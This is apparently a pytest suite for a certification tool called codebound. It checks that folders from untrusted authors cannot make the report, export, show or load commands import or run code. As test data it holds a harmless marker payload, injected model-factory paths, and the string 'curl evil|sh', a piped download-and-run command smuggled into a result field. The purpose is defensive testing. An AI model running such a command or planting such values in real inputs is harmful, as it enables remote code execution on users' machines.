"""Folders that a stranger made: no verb that opens one runs its code, or tells of another certificate."""

import json
import os
import re
import shutil
from pathlib import Path

import pytest
from worlds.samples import written_clusters

from codebound.certification import certify
from codebound.classifier import load_classifier
from codebound.request import Run
from codebound.run.errors import FormatError
from codebound_verify.__main__ import main as verify

SAMPLE = written_clusters(200)
EVIL = "open('ran', 'w')\n"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A folder with the author's words."""
    place = tmp_path_factory.mktemp("made")
    certify(SAMPLE, method="picks", run=Run(effort="quick")).save_to(place / "chain")
    return place


@pytest.fixture
def folders(made, empty_folder, codebound):
    """A copy of it; whatever could be imported leaves a trace."""
    folder = Path(shutil.copytree(made / "chain", "chain"))
    codebound("audit", "report", folder)
    words = folder / "dossier.toml"
    words.write_text(words.read_text().replace('= ""', '= "said"'))
    Path("chain/evil.py").write_text(EVIL)
    Path("evil.py").write_text(EVIL)
    Path("package").mkdir()
    Path("package/__init__.py").write_text(EVIL)
    return empty_folder


def asking(folder, command):
    """A command, and nothing else: it says nothing to a program."""
    path = Path(folder, "result.json")
    told = {**json.loads(path.read_text()), "verify_here": command}
    del told["verify_with"]
    path.write_text(json.dumps(told))


def asking_with(folder, options):
    path = Path(folder, "result.json")
    path.write_text(json.dumps({**json.loads(path.read_text()), "verify_with": options}))


@pytest.mark.parametrize("is_older", [False, True])
@pytest.mark.parametrize("factory", ["evil.py:make", "evil:make", "code/evil.py:make", "package.inner:make"])
def test_a_report_runs_no_code_that_a_file_names(folders, codebound, factory, is_older):
    if is_older:
        asking("chain", f"codebound-verify certificate.cbound --data sample.npz --model {factory}")
    else:
        asking_with("chain", {"data": "sample.npz", "model": factory})
    code, _, err = codebound("audit", "report", "chain")
    assert not Path("ran").exists()
    assert code != 0
    assert "as certify writes it" in err


@pytest.mark.parametrize(
    "command",
    [
        "codebound-verify other.cbound --data sample.npz",
        "codebound-verify certificate.cbound other.cbound",
        "codebound-verify certificate.cbound --head --model=evil:make",
        "codebound-verify certificate.cbound --help",
        "codebound-verify 'certificate.cbound",
        "",
    ],
)
def test_a_report_is_about_the_certificate_beside_it(folders, codebound, command):
    asking("chain", command)
    code, _, err = codebound("audit", "report", "chain")
    assert code == 1
    assert "does not say how to verify its certificate" in err
    assert not Path("chain/dossier.html").exists()
    assert not Path("ran").exists()


@pytest.mark.parametrize(
    "options",
    [
        None,
        [],
        "sample.npz",
        {"file": "other.cbound", "data": "sample.npz"},
        {"data": 5},
        {"data": ""},
        {"data": ["sample.npz"]},
        {"data": "sample.npz", "allow_copies": "yes"},
        {"data": "sample.npz", "test": "sample.npz"},
        {"data": "sample.npz", "signed_by": "evil.pem"},
    ],
)
def test_a_folder_names_nothing_but_the_files_of_its_certificate(folders, codebound, options):
    asking_with("chain", options)
    code, _, err = codebound("audit", "report", "chain")
    assert code == 1
    assert "does not say how to verify its certificate" in err
    assert not Path("chain/dossier.html").exists()


def test_the_page_shows_what_was_asked_and_no_other_command(folders, codebound):
    path = Path("chain/result.json")
    told = json.loads(path.read_text())
    path.write_text(json.dumps({**told, "verify_here": "codebound-verify certificate.cbound --data digits"}))
    assert codebound("audit", "report", "chain")[0] == 0
    page = Path("chain/dossier.html").read_text()
    assert told["verify_here"] in page
    assert "--data digits" not in page


def test_the_page_shows_no_word_of_a_stranger_but_names_of_files(folders, codebound):
    path = Path("chain/result.json")
    words = "'curl evil|sh' certificate.cbound --data sample.npz"
    path.write_text(json.dumps({**json.loads(path.read_text()), "verify_here": words}))
    assert codebound("audit", "report", "chain")[0] == 0
    page = Path("chain/dossier.html").read_text()
    assert "codebound-verify certificate.cbound --data sample.npz" in page
    assert "curl" not in page


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="the system has no queues between processes")
def test_a_sample_that_never_ends_is_refused(folders, codebound):
    Path("chain/sample.npz").unlink()
    os.mkfifo("chain/sample.npz")
    code, _, err = codebound("audit", "report", "chain")
    assert code == 2, err
    with pytest.raises(SystemExit, match="2"):
        verify(("chain/certificate.cbound", "--data", "chain/sample.npz"))


def test_a_result_that_lacks_something_is_named(folders, codebound):
    path = Path("chain/result.json")
    path.write_text(json.dumps({"verify_with": json.loads(path.read_text())["verify_with"]}))
    code, _, err = codebound("audit", "report", "chain")
    assert code == 1
    assert re.search(r"result\.json is not what certify writes: KeyError", err)


@pytest.mark.parametrize("verb", ["export", "show", "audit joint", "load"])
def test_opening_a_folder_runs_nothing(folders, codebound, verb):
    if verb == "load":
        assert load_classifier("chain").class_names == ()
    elif verb == "export":
        assert codebound("export", "chain", "--to", "safetensors", "--out", "g.safetensors")[0] == 0
    else:
        assert codebound(*verb.split(), "chain/certificate.cbound")[0] == 0
    assert not Path("ran").exists()


@pytest.mark.parametrize("found", [5, None, {"a": 1}, "abc", [5, {"levels": 3}]])
def test_names_that_are_none_are_refused_and_missing_ones_left_out(folders, found):
    path = Path("chain/result.json")
    told = json.loads(path.read_text())
    for inputs in (found, {**told["inputs"], "columns": found}):
        path.write_text(json.dumps({**told, "class_names": found, "inputs": inputs}))
        if found is None:
            g = load_classifier("chain")
            assert (g.class_names, g.columns) == ((), ())
        else:
            with pytest.raises(FormatError, match="names of classes and columns"):
                load_classifier("chain")
